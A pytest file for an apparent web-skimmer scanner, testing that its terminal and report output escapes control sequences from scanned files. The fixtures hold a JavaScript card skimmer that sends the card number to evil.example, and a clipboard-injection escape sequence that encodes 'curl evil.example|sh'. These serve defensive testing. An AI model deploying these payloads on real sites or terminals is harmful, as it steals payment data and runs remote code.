"""Hostile input, terminal: scanned data never drives the terminal. File names, `<script src>`
values and messages built from them carry ESC sequences (clear screen, OSC 52 clipboard write,
a fake summary line) and bidi overrides; the table and the error messages show them escaped."""

from __future__ import annotations

from pathlib import Path

import pytest

from skimscan.cli import main
from skimscan.report.terminal import printable

CLEAR = "\x1b[2J\x1b[H"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"
FAKE_SUMMARY = "\r1 target(s): 0 malicious, 0 suspicious, 1 clean, 0 error"
SKIMMER = ("document.getElementById('pay').addEventListener('click', function () {"
           " var n = document.getElementById('cc_number').value;"
           " navigator.sendBeacon('https://evil.example/c', n); });\n")


def test_printable_escapes_controls_and_bidi_but_keeps_text() -> None:
    assert printable("shop.test/…/app.js — ok") == "shop.test/…/app.js — ok"
    assert printable(f"a{CLEAR}b") == "a\\x1b[2J\\x1b[Hb"
    assert printable("pay\u202eexe.js") == "pay\\u202eexe.js"
    assert printable("x\ny\tz") == "x\\ny\\tz"


def test_the_table_shows_escape_sequences_from_scanned_files_escaped(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / f"skim{CLEAR}{CLIPBOARD}.js").write_text(SKIMMER)
    (tmp_path / "page.html").write_text(
        f'<html><body><form><input id="cc_number"></form>'
        f'<script src="lib{CLEAR}.js"></script><script>{SKIMMER}</script></body></html>')
    (tmp_path / f"note{FAKE_SUMMARY}.js").write_text("var a = 1;\n")
    code = main(["scan-file", str(tmp_path), "--format", "table", "--detonate", "never",
                 "--no-cache"])
    out, err = capsys.readouterr()
    assert code == 1  # the skimmer is found ...
    for stream in (out, err):  # ... and nothing the files carried reaches the terminal raw
        assert "\x1b" not in stream and "\x07" not in stream and "\r" not in stream
    assert "\\x1b[2J" in out and "\\x1b]52;c;" in out


def test_errors_naming_escape_sequences_are_escaped(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code = main(["scan-file", str(tmp_path / f"missing{CLEAR}.js"), "--detonate", "never"])
    out, err = capsys.readouterr()
    assert code == 3  # the scan could not be completed: an error target, never "clean"
    assert "\x1b" not in out + err and "\\x1b[2J" in out


def test_the_monitoring_commands_escape_what_pages_put_in_the_store(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A script URL with an ESC sequence, recorded by a scan, printed by `inventory` (Markdown
    and CSV) and `history`: shown escaped; CSV keeps its own line ends."""
    from skimscan.inventory.store import Content, Destination, ScriptState, Snapshot, Store

    url = "https://shop.test/checkout"
    evil = f"https://cdn.evil.example/app.js?{CLEAR}{CLIPBOARD}"
    script = ScriptState(evil, evil, "external", "a" * 64, "ast-a")
    snap = Snapshot(url, (script,), (Destination("https://cdn.evil.example", "cdn.evil.example",
                                                 "unknown", "script", 1),), {}, ())
    db = tmp_path / "watch.db"
    with Store.open(str(db)) as store:
        scan_id = store.begin_scan(url, "0.1.0", "rules-1")
        store.finish_scan(scan_id, snap, status="complete", verdict="clean",
                          contents=[Content("a" * 64, "ast-a", True, 10, "var a;", {})])
    for argv in (["inventory", "--db", str(db)], ["inventory", "--db", str(db), "-f", "csv"],
                 ["history", "--db", str(db)]):
        assert main(argv) == 0, argv
        out, err = capsys.readouterr()
        assert "\x1b" not in out + err and "\x07" not in out + err, argv
    main(["inventory", "--db", str(db)])
    out, _err = capsys.readouterr()
    assert "\\x1b\\[2J" in out  # escaped for the terminal, then for Markdown (`[` -> `\\[`)
